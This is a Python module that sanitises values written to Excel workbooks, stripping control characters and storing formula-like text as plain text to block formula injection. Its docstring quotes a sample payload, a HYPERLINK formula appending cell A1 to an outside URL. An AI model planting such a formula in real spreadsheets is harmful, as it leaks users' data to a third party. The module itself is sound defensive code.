"""What goes into a workbook Linli writes is data, never instructions.

A resident's title ``=HYPERLINK("http://…"&A1,"点击查看")`` must not become a live formula in a district leader's
workbook, and a control character pasted into a comment (``\\u0007``) must not make an export fail. So every
workbook is written in two steps that all writers share:

- ``clean(value)`` on each value as it is put in a cell: text loses the control characters Excel cannot store
  (openpyxl refuses them);
- ``save(book, stream)`` instead of ``book.save``: every cell is made text that openpyxl took for a formula (it
  does so for text beginning with ``=``), and text beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return is stored as a text cell (shared string) whatever its origin, so no spreadsheet program evaluates it.
  Linli's own workbooks hold no formulas: every figure is computed and written as a number.
"""

from __future__ import annotations

from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def clean(value: Any) -> Any:
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def clean_row(values) -> list[Any]:
    return [clean(v) for v in values]


def harden(book: Workbook) -> None:
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and (
                    cell.data_type == "f" or cell.value.startswith(FORMULA_LEADS)
                ):
                    cell.data_type = "s"


def save(book: Workbook, stream: IO[bytes]) -> None:
    harden(book)
    book.save(stream)
